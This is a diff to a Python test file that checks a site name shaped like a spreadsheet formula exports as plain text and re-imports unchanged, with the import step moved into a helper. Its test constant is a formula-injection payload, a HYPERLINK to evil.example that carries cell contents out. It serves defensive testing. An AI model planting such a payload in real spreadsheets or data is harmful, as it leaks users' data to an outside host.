@@ -12,6 +12,7 @@ from cuncun.network.models import Site, SiteService
 from cuncun.network.services import record_service
 from tests.conftest import village
 from tests.factories import site_in
+from tests.network.builders import import_register
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
 
@@ -34,8 +35,7 @@ def test_a_site_named_like_a_formula_exports_as_text_and_imports_back_unchanged(
     assert written.data_type == "s" and not written.value.startswith(FORMULA_STARTS)
     again = io.BytesIO(exported)
     again.name = "sites.xlsx"
-    response = client.post("/network/manage/import/", {"file": again})
-    assert "0 个站点已登记，0 个已更新，1 个未变" in response.content.decode()
+    assert "0 个站点已登记，0 个已更新，1 个未变" in import_register(client, again)
     site.refresh_from_db()
     assert site.name == HOSTILE_NAME and Site.objects.count() == 1
 
